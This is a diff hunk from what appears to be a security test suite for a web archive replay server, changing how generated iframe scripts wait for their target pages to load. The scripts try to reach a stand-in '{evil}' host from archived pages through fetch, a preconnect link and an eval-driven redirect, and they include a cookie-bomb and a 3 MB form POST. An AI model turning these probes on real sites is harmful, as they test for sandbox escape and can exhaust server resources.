@@ -250,11 +250,11 @@ for label, path in {"missing": "/alpha/20260102030405mp_/http://nothing.test/", 
                     "no-asset": "/-/nothing", "start": "/", "collection": "/alpha/", "cdx": "/alpha/cdx?url=http://{name}.site.test/", "calendar": "/alpha/*/http://{name}.site.test/",
                     "timemap": "/alpha/timemap/link/http://{name}.site.test/", "no-url": "/alpha/2026mp_/", "icon-of-browser": "/favicon.ico", "robots": "/robots.txt",
                     "bad-escape": "/alpha/%zz", "long": "/alpha/' + 'x'.repeat(200000) + '", "nul": "/alpha/%00", "redirect": "/alpha", "old": "/alpha/2020/http://{name}.site.test/", "go": "/-/go?url=x"}.items():
-    script("realm-" + label, f"const f = document.createElement('iframe'); f.onload = () => {{ f.onload = null; try {{ const w = f.contentWindow; w.fetch('{{evil}}/').catch(() => 0); "
+    script("realm-" + label, f"const f = document.createElement('iframe'); f.onload = () => {{ try {{ const w = f.contentWindow; if (w.location.href === 'about:blank') return; f.onload = null; w.fetch('{{evil}}/').catch(() => 0); "
            f"const l = w.document.createElement('link'); l.rel = 'preconnect'; l.href = '{{evil}}/'; w.document.documentElement.append(l); w.eval(\"location = '{{evil}}/'\"); }} catch {{}} }}; "
            f"document.body.append(f); f.contentWindow.location = '{path}'")
 script("realm-cookie-bomb", FRESH + "for (let i = 0; i < 60; ++i) w.document.cookie = 'bomb' + i + '=' + 'x'.repeat(3900) + '; path=/alpha/bomb; SameSite=None; Secure'; const f = document.createElement('iframe'); "
-       "f.onload = () => { f.onload = null; f.contentWindow.fetch('{evil}/').catch(() => 0); f.contentWindow.eval(\"location = '{evil}/'\") }; document.body.append(f); f.contentWindow.location = '/alpha/bomb'")
+       "f.onload = () => { if (f.contentWindow.location.href === 'about:blank') return; f.onload = null; f.contentWindow.fetch('{evil}/').catch(() => 0); f.contentWindow.eval(\"location = '{evil}/'\") }; document.body.append(f); f.contentWindow.location = '/alpha/bomb'")
 script("realm-post", "const f = document.createElement('iframe'); f.name = 'p'; document.body.append(f); f.onload = () => { try { f.contentWindow.eval(\"location = '{evil}/'\") } catch {} }; "
        "document.body.insertAdjacentHTML('beforeend', '<form method=post target=p enctype=text/plain><input name=x></form>'); const m = document.forms[0]; m.elements[0].value = 'x'.repeat(3e6); m.submit()")
 
